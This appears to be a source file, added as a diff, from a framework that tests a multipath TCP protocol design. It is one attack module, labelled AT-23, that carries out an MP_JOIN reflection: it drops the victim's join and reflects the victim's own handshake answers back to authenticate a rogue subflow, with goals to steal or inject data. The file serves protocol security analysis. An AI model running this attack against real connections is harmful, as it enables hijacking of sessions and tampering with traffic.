@@ -1,0 +1,224 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * AT-23: MP_JOIN reflection, D-09. Under one key for both directions the MAC
+ * covers two nonces in the order of sender and peer, and nothing else. A join
+ * that the victim opens is kept from its peer and answered with what the victim
+ * itself says to a join with the same nonce, opened from a host of the
+ * attacker's: the victim proves itself to itself, twice.
+ *
+ *   victim -> peer   SYN(ri), kept        host -> victim  SYN(ri)
+ *   victim <- "peer" SYN/ACK(m1, rr)      host <- victim  SYN/ACK(m1, rr)
+ *   victim -> peer   ACK(m2), kept        host -> victim  ACK(m2)
+ *
+ * The second subflow does not touch the tapped path.
+ */
+#include "atk_inside.h"
+#include "atk_joining.h"
+#include "atk_opts.h"
+#include "atk_table.h"
+#include "mpx_tcp.h"
+
+#include <string.h>
+
+enum { FIRST_PORT = 41000, PAIRS_MAX = 8 };
+#define RETRY UINT64_C(500000000) /* ns */
+
+static const char *const goal_words[] = {"steal", "inject", NULL};
+enum { GOAL, SIZE };
+enum { INJECT = 1 };
+static const struct atk_param params[] = {
+    [GOAL] = {"goal", ATK_P_WORD, .words = goal_words},
+    [SIZE] = {"size", ATK_P_SIZE, .initial = 64000, .min = 1,
+              .max = 1000000000},
+    {.name = NULL},
+};
+
+struct pair {
+    const struct atk_heard *victim;
+    struct mpx_opt syn;      /* the victim's */
+    struct atk_inside kept;  /* the victim's own join, in the peer's name */
+    struct atk_inside other; /* ours, from our host */
+    bool answered;           /* with the victim's answer to us */
+};
+struct state {
+    struct atk_heards heard;
+    struct pair pair[PAIRS_MAX];
+    unsigned n;
+};
+
+/* ---- the victim's join, kept from its peer ---- */
+
+/* Whose join this is: it carries the peer's token. */
+static const struct atk_heard *victim_of(const struct state *st,
+                                         const struct mpx_opt_join *j)
+{
+    for (unsigned i = 0; i < st->heard.n; i++)
+        if (st->heard.v[i].of[MPX_ROLE_R].token == j->token)
+            return &st->heard.v[i];
+    return NULL;
+}
+
+static struct pair *pair_of(struct state *st, const struct atk_sight *s)
+{
+    for (unsigned i = 0; i < st->n; i++) {
+        const struct atk_flow *f = &st->pair[i].kept.tcp.flow;
+
+        if (f->remote_port == s->sport && f->local_port == s->dport &&
+            !memcmp(f->remote, s->src, s->family == 4 ? 4 : 16))
+            return &st->pair[i];
+    }
+    return NULL;
+}
+
+static void open_other(struct atk *a, struct state *st, struct pair *p,
+                       uint64_t now)
+{
+    const struct atk_config *cfg = atk_config(a);
+    const struct atk_ends *e = &p->victim->ends;
+    bool v4 = e->family == 4;
+    struct atk_flow f = {.family = e->family,
+                         .local_port = (uint16_t)(FIRST_PORT + (p - st->pair)),
+                         .remote_port = e->dport};
+    struct mpx_opt o = p->syn;
+
+    memcpy(f.local, v4 ? cfg->host4 : cfg->host6, v4 ? 4 : 16);
+    memcpy(f.remote, e->src, sizeof f.remote);
+    atk_tcp_open(&p->other.tcp, a, &f);
+    atk_inside_begin(&p->other, p->victim, MPX_ROLE_I);
+    o.u.join.token = p->victim->of[MPX_ROLE_I].token;
+    o.u.join.addr_id = ATK_ADDR_ID;
+    atk_tcp_send_opt(&p->other.tcp, a, MPX_TCP_SYN, &o, now);
+    atk_count_join(a);
+}
+
+static void keep_syn(struct atk *a, struct state *st, const struct atk_sight *s,
+                     const struct mpx_opt *syn, uint64_t now)
+{
+    uint8_t nonce[4];
+    struct pair *p = &st->pair[st->n];
+
+    p->victim = victim_of(st, &syn->u.join);
+    if (!p->victim)
+        return;
+    st->n++;
+    p->syn = *syn;
+    mpx_put32(nonce, syn->u.join.nonce);
+    atk_spoil(a, nonce, sizeof nonce);
+    p->syn.u.join.nonce = mpx_get32(nonce);
+    atk_tcp_accept(&p->kept.tcp, a, s);
+    atk_inside_begin(&p->kept, p->victim, MPX_ROLE_I);
+    open_other(a, st, p, now);
+}
+
+/* What the victim says on its join goes to ours: the third ACK as it is. */
+static void kept_segment(struct atk *a, struct pair *p,
+                         const struct atk_sight *s, uint64_t now)
+{
+    uint8_t hdr_len = (uint8_t)(s->payload - s->tcp);
+    struct mpx_opt o;
+
+    if (atk_opts_find(s, MPX_SUB_JOIN, &o) && o.u.join.form == MPX_JOIN_ACK) {
+        atk_tcp_send_opt(&p->other.tcp, a, MPX_TCP_ACK, &o, now);
+        p->kept.tcp.snd_nxt = p->kept.tcp.iss + 1;
+        atk_tcp_send(&p->kept.tcp, a, MPX_TCP_ACK, NULL, NULL, 0, NULL, 0, now);
+    }
+    atk_inside_segment(a, &p->kept, s->tcp, hdr_len, s->payload_len, now);
+}
+
+static enum atk_verdict see(struct atk *a, void *state,
+                            const struct atk_sight *s, uint64_t now)
+{
+    struct state *st = state;
+    struct pair *p = pair_of(st, s);
+    struct mpx_opt o;
+
+    atk_heards_see(&st->heard, s);
+    if (now < atk_config(a)->acts || s->dir != 0)
+        return ATK_PASS;
+    if (p && !(s->flags & (MPX_TCP_SYN | MPX_TCP_RST)))
+        kept_segment(a, p, s, now);
+    if (p)
+        return ATK_DROPPED;
+    if (mpx_seg_kind_of(s->flags) != MPX_SEG_SYN || st->n == PAIRS_MAX ||
+        !atk_opts_find(s, MPX_SUB_JOIN, &o))
+        return ATK_PASS;
+    keep_syn(a, st, s, &o, now);
+    return pair_of(st, s) ? ATK_DROPPED : ATK_PASS;
+}
+
+/* ---- our join ---- */
+
+/* The victim's answer to us is our answer to it. */
+static void on_synack(struct atk *a, struct pair *p, const uint8_t *hdr,
+                      uint8_t hdr_len, uint64_t now)
+{
+    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};
+
+    if (p->answered || !atk_joining_find(hdr, hdr_len, &o.u.join) ||
+        !atk_tcp_on_synack(&p->other.tcp, hdr))
+        return;
+    p->answered = true;
+    atk_tcp_send_opt(&p->kept.tcp, a, MPX_TCP_SYN | MPX_TCP_ACK, &o, now);
+}
+
+static void host(struct atk *a, void *state, const struct atk_flow *f,
+                 const uint8_t *hdr, uint8_t hdr_len, const uint8_t *payload,
+                 size_t len, uint64_t now)
+{
+    struct state *st = state;
+    unsigned i = (unsigned)f->local_port - FIRST_PORT;
+    enum mpx_seg_kind kind = mpx_seg_kind_of(hdr[MPX_TCP_OFF_FLAGS]);
+
+    (void)payload;
+    if (f->local_port < FIRST_PORT || i >= st->n || kind == MPX_SEG_RST)
+        return;
+    if (kind == MPX_SEG_SYNACK) {
+        on_synack(a, &st->pair[i], hdr, hdr_len, now);
+        return;
+    }
+    atk_inside_segment(a, &st->pair[i].other, hdr, hdr_len, len, now);
+    if (atk_param(a, GOAL) == INJECT)
+        atk_inside_inject(a, &st->pair[i].other, atk_param(a, SIZE), false,
+                          now);
+}
+
+static void act(struct atk *a, void *state, uint64_t now)
+{
+    (void)state;
+    atk_set_timer(a, now + RETRY);
+}
+
+static void timer(struct atk *a, void *state, uint64_t now)
+{
+    struct state *st = state;
+
+    for (unsigned i = 0; atk_param(a, GOAL) == INJECT && i < st->n; i++)
+        atk_inside_inject(a, &st->pair[i].other, atk_param(a, SIZE), true, now);
+    atk_set_timer(a, now + RETRY);
+}
+
+static void end(void *state)
+{
+    struct state *st = state;
+
+    for (unsigned i = 0; i < st->n; i++) {
+        atk_tcp_free(&st->pair[i].kept.tcp);
+        atk_tcp_free(&st->pair[i].other.tcp);
+    }
+    mpx_wipe(st, sizeof *st);
+}
+
+const struct atk_ops atk_join_reflect = {
+    .name = "join-reflection",
+    .id = "AT-23",
+    .source = "draft-baerts-tcpm-mptcpext-00 section 4.3",
+    .powers = ATK_READ | ATK_DROP | ATK_INJECT | ATK_HOST,
+    .params = params,
+    .spoils = true,
+    .state_size = sizeof(struct state),
+    .see = see,
+    .act = act,
+    .host = host,
+    .timer = timer,
+    .end = end,
+};
